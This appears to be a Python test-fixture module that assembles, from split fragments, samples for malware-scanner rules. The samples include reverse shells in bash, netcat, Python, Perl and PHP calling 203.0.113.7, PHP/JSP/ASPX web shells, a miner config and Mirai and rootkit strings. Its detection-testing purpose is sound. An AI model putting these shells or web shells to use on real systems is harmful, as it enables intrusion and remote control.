"""Contents that engines for viruses and trojans recognise, put together here from harmless parts.

No part by itself is recognised, so that no scanner takes the repository for infected.
"""

import base64
import io
import tarfile
import zipfile

EICAR = b"".join((rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$", b"EICAR-STANDARD-", b"ANTIVIRUS-TEST-FILE!", b"$H+H*"))
WALLET = b"4" + b"A" + b"1bcDEfg" * 13 + b"zz"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00>\x00" + bytes(44)


def zipped(content: bytes, name: str = "inner", *, depth: int = 1) -> bytes:
    """The content in an archive, itself in an archive, so many deep."""
    for level in range(depth):
        archive = io.BytesIO()
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as opened:
            opened.writestr(name if level == 0 else "next.zip", content)
        content = archive.getvalue()
    return content


def tarred(content: bytes, name: str = "inner") -> bytes:
    """The content in a compressed tar."""
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as opened:
        member = tarfile.TarInfo(name)
        member.size = len(content)
        opened.addfile(member, io.BytesIO(content))
    return archive.getvalue()


def encrypted(content: bytes) -> bytes:
    """An archive that says its only file is encrypted."""
    archive = bytearray(zipped(content))
    archive[6] |= 1
    archive[archive.find(b"PK\x01\x02") + 8] |= 1
    return bytes(archive)


def _joined(*parts: str) -> bytes:
    return "".join(parts).encode()


_MINING = '{"donate-level": 1, "pools": [{"url": "pool.example.org:3333", '
_PACKED = "$Info: This file is packed with the UPX executable packer $\0$Id: "
_HIDDEN = base64.b64encode(bytes(range(200))).decode()

# By rule: a content that it recognises, and one that is like it but harmless.
BY_RULE = {
    "Eicar_Test_File": (EICAR, b"echo '" + EICAR + b"' | clamscan -\n" + b"# how to try it out\n" * 20),
    "Reverse_Shell_Bash": (
        _joined("#!/bin/sh\nbash -i ", ">& /dev", "/tcp/203.0.113.7/4444", " 0>&1\n"),
        b"bash -i >& /tmp/log 0>&1; echo > /dev/tcp/localhost/5432\n",
    ),
    "Reverse_Shell_Netcat": (
        _joined("mkfifo ", "/tmp/f; cat /tmp/f | ", "/bin/sh -i 2>&1 ", "| nc 203.0.113.7 44\n"),
        b"mkfifo /tmp/f; cat /tmp/f | sort\nnc -z localhost 80\n",
    ),
    "Reverse_Shell_Python": (
        _joined(
            'import os, pty, socket\ns = socket.socket()\ns.connect(("203.0.113.7", 4444))\n',
            "for n in 1, 2: pass\nos.dup", "2(s.fileno(), 0)\n", 'pty.spa', 'wn("/bin/bash")\n',
        ),
        b'import socket\ns = socket.socket()\ns.connect(("localhost", 80))\nos.dup2(f.fileno(), 1)\n',
    ),
    "Reverse_Shell_Perl": (
        _joined(
            "use Socket; connect(S, ", "sockaddr_in($p, inet_aton($i)));\n", 'open(STDIN, ">', '&S");',
            'open(STDOUT, ">', '&S"); exec("/bin/', 'sh -i");\n',
        ),
        b'use Socket; connect(S, sockaddr_in($p, $i)); open(STDOUT, ">&S"); print "hello";\n',
    ),
    "Reverse_Shell_Php_Or_Ruby": (
        _joined("$s = fsock", 'open("203.0.113.7", 4444);', "exec", '("/bin/', 'sh -i <&3 >&3 2>&3");\n'),
        b'$s = fsockopen("mail.example.org", 25); fwrite($s, "QUIT");\n',
    ),
    "Reverse_Shell_Elf_Stager": (
        ELF + bytes.fromhex("6a2958996a025f6a015e0f05" + "489748b90200115c7f000001"),
        ELF + bytes.fromhex("6a29589948b90200"),
    ),
    "Miner_Xmrig_Program": (
        ELF + _joined("donate", "-level\0", "randomx-", "1gb-pages\0", "cryptonight", "-heavy\0"),
        ELF + _joined("donate", "-level\0"),
    ),
    "Miner_Xmrig_Settings": (
        _joined(_MINING, '"user": "') + WALLET + b'"}]}',
        _joined(_MINING, '"user": "YOUR_WALLET"}]}'),
    ),
    "Miner_Started_By_Script": (
        _joined("./kernel -o stratum", "+tcp://pool.example.org:3333 -u ") + WALLET + b" -p x\n",
        b"./kernel -o stratum+tcp://pool.example.org:3333 -u someone\n",
    ),
    "Web_Shell_Php_Runs_Request": (
        _joined("<?php @ev", "al(base64_decode($_", "POST['x'])); ?>"),
        b"<?php if (isset($_POST['x'])) { exec('ls'); echo htmlspecialchars($_POST['x']); }",
    ),
    "Web_Shell_Php_Hidden_Code": (
        _joined("<?php ev", "al(gzinflate(base64_decode('", _HIDDEN, "')));"),
        _joined("<?php $logo = base64_decode('", _HIDDEN, "');"),
    ),
    "Web_Shell_Php_Known": (
        _joined("<?php $default_", "action = 'Files", "Man'; $color = '#df5';"),
        b"<?php $default_action = 'Index';",
    ),
    "Web_Shell_Jsp": (
        _joined("<% Runtime.getRun", "time().exec(request.get", 'Parameter("cmd")); %>'),
        b'<% out.print(request.getParameter("cmd")); %>',
    ),
    "Web_Shell_Aspx": (
        _joined('<%@ Page Language="Jscript"%><%ev', 'al(Request.Item', '["x"],"unsafe");%>'),
        b'<%@ Page Language="C#"%><%= Request.Item["x"] %>',
    ),
    "Mirai": (
        ELF + bytes(each ^ 0x22 for each in _joined("/bin/busybox MI", "RAI\0MIRAI: applet", " not found\0")),
        ELF + b"/bin/busybox ls\0applet not found\0",
    ),
    "Rootkit_Process_Hider": (
        ELF + _joined("readdir64\0dlsym\0/proc/self/", "fd/%d\0/proc/%s/", "stat\0%d (%[^", ")]s\0"),
        ELF + b"readdir64\0dlsym\0/proc/%s/stat\0",
    ),
    "Elf_Upx_Header_Tampered": (
        ELF + _joined(_PACKED, "UPX 4.02 Copyright"),
        ELF + _joined("UPX!", _PACKED, "UPX 4.02 Copyright"),
    ),
}  # fmt: skip
